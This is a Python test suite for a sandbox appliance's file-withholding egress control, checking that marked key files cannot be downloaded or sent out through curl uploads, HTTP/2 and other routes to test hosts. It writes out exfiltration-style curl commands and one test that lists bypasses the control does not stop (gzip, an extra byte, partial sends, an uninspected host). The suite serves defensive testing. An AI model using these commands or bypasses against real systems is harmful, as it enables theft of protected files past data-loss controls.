# SPDX-License-Identifier: GPL-3.0-or-later
"""Files that may not leave (SB-5, T-33), against the real program: by rule, by label and by an operator's word, at the file API, as copies, and as
bodies of a guest's requests on bumped routes. What that does not stop is shown as well, so that the documents say what is so."""

import hashlib
import json
import os
import re
import ssl
import subprocess
import sys
import threading
import unittest

from support import audit
from support.appliance import Appliance, run_binary
from support.world import PUBLIC, RESOLVER, World

HTTP2_PORT = 9443
RULES = [
    {"name": "api", "hosts": ["api.example"], "ports": [443, HTTP2_PORT], "rung": "bump"},
    {"name": "plain", "hosts": ["other.example"], "ports": [80]},
    {"name": "unseen", "hosts": ["allowed.example"], "ports": [443]},
]
SITE, SITE2 = "https://api.example", f"https://api.example:{HTTP2_PORT}"
URLLIB = "python3 -c \"import urllib.request as u; print(u.urlopen(u.Request('%s/urllib', open('%s','rb').read(), method='POST')).status)\" 2>&1"


class WithheldFiles(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.world = World(servers=os.path.abspath(__file__))
        cls.addClassCleanup(cls.world.remove)
        cls.log = os.path.join(cls.world.folder, "nghttpd.log")
        cls.world.spawn(["sh", "-c", f"exec nghttpd -v -a {PUBLIC} --echo-upload -d {cls.world.folder} {HTTP2_PORT} "
                         f"{cls.world.folder}/server.key {cls.world.certificate} >{cls.log} 2>&1"])
        with open(cls.world.certificate, encoding="ascii") as file:
            changes = {"egress": {"rules": RULES, "ca_bundle": file.read()}, "network": {"dns": [RESOLVER]},
                       "files": {"withhold": ["uploads/**/*.key", "outputs/raw/**"]}}
        cls.appliance = Appliance(tier="runc", prefix=cls.world.enter, changes=changes).start()
        cls.addClassCleanup(cls.appliance.remove)
        cls.addClassCleanup(cls.appliance.stop)
        cls.key = os.urandom(100_000)
        cls.large = os.urandom(3 << 20)
        cls.label = os.urandom(5_000)
        cls.free = os.urandom(100_000)
        cls.put("uploads/deep/a.key", cls.key)
        cls.put("uploads/large.key", cls.large)
        cls.put("uploads/label", cls.label, "X-Downloadable: false")
        cls.put("uploads/free", cls.free)

    @classmethod
    def api(cls, method, path, body=None, *headers):
        words = ["curl", "-sS", "-m", "30", "-X", method, "-w", "\n%{http_code}", "-H", f"Authorization: Bearer {cls.appliance.token}", "-H", "X-Chat-Id: world"]
        for each in headers:
            words += ["-H", each]
        words += [] if body is None else ["--data-binary", "@-"]
        done = subprocess.run([*cls.world.enter, *words, f"http://127.0.0.1:{cls.appliance.files_port}/v1/files/{path}"], input=body, stdout=subprocess.PIPE, check=True)
        answer, _, status = done.stdout.rpartition(b"\n")
        return int(status), answer

    @classmethod
    def put(cls, path, body, *headers):
        status, answer = cls.api("PUT", path, body, *headers)
        assert status == 201, answer

    @classmethod
    def bash(cls, command):
        return cls.world.text_of(cls.world.call(cls.appliance, command))

    def refused_at_files(self, path):
        status, answer = self.api("GET", path)
        self.assertEqual((status, json.loads(answer)["error"]["code"]), (403, "not_downloadable"), path)

    def bodies(self, path):
        return [each for each in self.world.seen() if each.get("path") == path]

    def ctl(self, *words):
        done = run_binary("ctl", "--socket", self.appliance.operator_socket, *words)
        return done.returncode, done.stdout + done.stderr

    def session(self):
        return re.search(r"s-[0-9a-f]{16}", self.ctl("sessions")[1]).group(0)

    def test_rules_and_labels_at_the_file_api(self):
        for path in ("uploads/deep/a.key", "uploads/large.key", "uploads/label"):
            self.refused_at_files(path)
        self.assertEqual(self.api("GET", "uploads/free"), (200, self.free))
        self.assertIn(hashlib.sha256(self.key).hexdigest(), self.bash("sha256sum /mnt/user-data/uploads/deep/a.key"))  # of use in the session
        self.bash("cd /mnt/user-data/outputs && mkdir -p raw/x && echo one >raw/x/y && echo two >two")
        self.refused_at_files("outputs/raw/x/y")
        self.assertEqual(self.api("GET", "outputs/two"), (200, b"two\n"))

    def test_copies_at_the_file_api(self):
        self.bash("cd /mnt/user-data/outputs && cp ../uploads/label copy && cp ../uploads/large.key l && mv l moved && head -c 5000 /dev/zero >other")
        self.refused_at_files("outputs/copy")
        self.refused_at_files("outputs/moved")
        self.assertEqual(self.api("GET", "outputs/other")[0], 200)

    # What is sent, and how: each of them is the whole content, or has it as a part.
    WAYS = {
        "put": "curl -sS -m 30 -i -T {file} {site}/put 2>&1",
        "data": "curl -sS -m 30 -i --data-binary @{file} {site}/data 2>&1",
        "form": "curl -sS -m 30 -i -F note=x -F file=@{file} -F more=y {site}/form 2>&1",
        "chunked": "curl -sS -m 30 -i -H 'Transfer-Encoding: chunked' --data-binary @{file} {site}/chunked 2>&1",
        "expect": "curl -sS -m 30 -i -H 'Expect: 100-continue' --data-binary @{file} {site}/expect 2>&1",
    }

    def test_bodies_on_a_bumped_route(self):
        for path, whole in (("uploads/deep/a.key", self.key), ("uploads/large.key", self.large)):
            for name, words in self.WAYS.items():
                with self.subTest(name=name, path=path):
                    text = self.bash(words.format(file="/mnt/user-data/" + path, site=SITE + "/" + str(len(whole))))
                    self.assertIn("x-deny-reason: not_downloadable", text.lower())
                    for each in self.bodies(f"/{len(whole)}/{name}"):
                        self.assertFalse(each["complete"])
                        self.assertLess(each["bytes"], len(whole) - (200 << 10))
                        self.assertGreater(len(whole), 256 << 10)  # of a small one not even the head goes
        found = audit.find_events(self.appliance, lambda e: e["message"] == "http_request" and e.get("status_code") == "not_downloadable", seconds=5)
        self.assertGreaterEqual(len(found), 2 * len(self.WAYS))

    def test_other_programs_and_the_plain_protocol(self):
        self.assertIn("403", self.bash(URLLIB % (SITE, "/mnt/user-data/uploads/label")))
        self.assertEqual(self.bodies("/urllib"), [])
        self.assertIn("not_downloadable", self.bash("curl -sS -m 30 -i -T /mnt/user-data/uploads/label http://other.example/plain 2>&1"))
        self.assertEqual(self.bodies("/plain"), [])
        self.bash("cp /mnt/user-data/uploads/label /workspace/copy")
        self.assertIn("not_downloadable", self.bash(f"curl -sS -m 30 -i -T /workspace/copy {SITE}/copy 2>&1"))

    def test_http2(self):
        for path in ("uploads/deep/a.key", "uploads/large.key"):
            for words in ("--data-binary @{}", "-F file=@{}"):
                text = self.bash(f"curl -sS -m 40 -i {words.format('/mnt/user-data/' + path)} {SITE2}/two 2>&1").lower()
                self.assertIn("http/2 403", text)
                self.assertIn("x-deny-reason: not_downloadable", text)
        text = self.bash(f"curl -sS -m 40 --data-binary @/mnt/user-data/uploads/free -o /tmp/down {SITE2}/echo 2>&1; sha256sum /tmp/down")
        self.assertIn(hashlib.sha256(self.free).hexdigest(), text)

    def test_great_bodies_one_after_the_other_on_one_connection(self):
        # As long as a withheld file, and none: watched, held back and let go, more than the windows of a connection.
        text = self.bash(f"head -c {len(self.large)} /dev/urandom >/tmp/great; sha256sum </tmp/great; for i in 1 2 3; do echo; done; "
                         f"curl -sS -m 60 --data-binary @/tmp/great -o /tmp/one -w '%{{num_connects}}\\n' {SITE2}/one --next "
                         f"-sS -m 60 --data-binary @/tmp/great -o /tmp/two -w '%{{num_connects}}\\n' {SITE2}/two 2>&1; sha256sum </tmp/one; sha256sum </tmp/two")
        sums = re.findall(r"[0-9a-f]{64}", text)
        self.assertEqual(len(sums), 3, text)
        self.assertEqual(len(set(sums)), 1, text)

    def test_everything_else_goes(self):
        for name, words in self.WAYS.items():
            text = self.bash(words.format(file="/mnt/user-data/uploads/free", site=SITE + "/free"))
            self.assertIn(" 200 ", text, name)
            self.assertTrue(self.bodies(f"/free/{name}")[0]["complete"])
        self.assertEqual(self.bodies("/free/data")[0]["sha256"], hashlib.sha256(self.free).hexdigest())

    def test_what_is_not_stopped(self):
        # docs/decisions/0028: a changed byte, another coding, pieces, and what is not looked into.
        file = "/mnt/user-data/uploads/label"
        for name, words in {
            "one-byte-more": f"(cat {file}; echo) | curl -sS -m 30 -i --data-binary @- {SITE}/one-byte-more 2>&1",
            "packed": f"gzip -c {file} | curl -sS -m 30 -i --data-binary @- {SITE}/packed 2>&1",
            "first-half": f"head -c 2500 {file} | curl -sS -m 30 -i --data-binary @- {SITE}/first-half 2>&1",
            "unseen": f"curl -sS -m 30 -i -k -T {file} https://allowed.example/unseen 2>&1",
        }.items():
            self.assertIn(" 200 ", self.bash(words), name)

    def test_operators_word(self):
        self.bash("cd /mnt/user-data/outputs && head -c 4000 /dev/urandom >report && cp report /workspace/report")
        send = f"curl -sS -m 30 -i -T /workspace/report {SITE}/report 2>&1"
        self.assertIn(" 200 ", self.bash(send))
        session = self.session()
        status, text = self.ctl("files", "withhold", session, "outputs/report")
        self.assertEqual(status, 0, text)
        self.refused_at_files("outputs/report")
        self.assertIn("not_downloadable", self.bash(send))
        listed = self.ctl("files", "list", session)[1]
        self.assertRegex(listed, r"outputs/report +4000 +operator +root")
        self.assertRegex(listed, r"uploads/deep/a\.key +100000 +rule +uploads/\*\*/\*\.key")
        self.assertRegex(listed, r"uploads/label +5000 +label")
        self.assertEqual(self.ctl("files", "release", session, "outputs/report")[0], 0)
        self.assertEqual(self.api("GET", "outputs/report")[0], 200)
        self.assertIn(" 200 ", self.bash(send))
        self.assertEqual(self.ctl("files", "withhold", session, "outputs/none")[0], 1)
        said = audit.find_events(self.appliance, lambda e: "files-withhold outputs/report" in json.dumps(e), seconds=5)
        self.assertTrue(said)


def serve(folder):
    """Takes every body, and writes down how much of it came."""
    import http.server
    import socketserver

    lock = threading.Lock()

    class Taker(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        body, complete = b"", False

        def take(self, size):
            while size > 0:
                piece = self.rfile.read1(min(size, 65536))
                if not piece:
                    return False
                self.body += piece
                size -= len(piece)
            return True

        def take_chunks(self):
            while True:
                line = self.rfile.readline().strip()
                if not line:
                    return False
                size = int(line, 16)
                if not self.take(size):
                    return False
                self.rfile.readline()
                if size == 0:
                    return True

        def do_POST(self):
            self.body = b""
            try:
                chunked = self.headers.get("Transfer-Encoding") == "chunked"
                complete = self.take_chunks() if chunked else self.take(int(self.headers.get("Content-Length", "0")))
            except OSError:
                complete = False
            with lock, open(f"{folder}/seen", "a", encoding="utf-8") as file:
                file.write(json.dumps({"path": self.path, "bytes": len(self.body), "complete": complete, "sha256": hashlib.sha256(self.body).hexdigest()}) + "\n")
            if not complete:
                self.close_connection = True
                return
            self.send_response(200)
            self.send_header("Content-Length", "3")
            self.end_headers()
            self.wfile.write(b"ok\n")

        do_PUT = do_POST

        def log_message(self, *_):
            pass

    class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
        allow_reuse_address = True
        daemon_threads = True

        def handle_error(self, request, client_address):
            pass

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(f"{folder}/server.crt", f"{folder}/server.key")
    secure = Server((PUBLIC, 443), Taker)
    secure.socket = context.wrap_socket(secure.socket, server_side=True, do_handshake_on_connect=False)
    for each in (secure, Server(("93.184.216.35", 80), Taker)):
        threading.Thread(target=each.serve_forever, daemon=True).start()
    with open(f"{folder}/seen", "a", encoding="utf-8"), open(f"{folder}/ready", "w", encoding="utf-8"):
        pass
    threading.Event().wait()


if __name__ == "__main__":
    serve(sys.argv[1])
